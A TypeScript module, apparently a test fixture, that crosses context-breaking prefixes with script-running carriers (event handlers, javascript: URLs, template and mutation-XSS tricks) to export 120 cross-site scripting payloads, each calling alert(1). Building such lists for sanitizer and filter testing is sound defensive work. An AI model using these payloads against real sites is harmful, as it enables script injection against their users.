/** What ends the place that a text stands in: an attribute, an element, a script, a comment, a template. */
const BREAKERS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '</style>', '-->', '{{', '`}', '\\"]}', '&lt;']

/** What would then run. */
const CARRIERS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  "{{constructor.constructor('alert(1)')()}}",
  '<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>',
]

/** 120 texts that become a script where a page takes them for anything but text. */
export const SCRIPT_PAYLOADS: readonly string[] = BREAKERS.flatMap((breaker) => CARRIERS.map((carrier) => breaker + carrier))
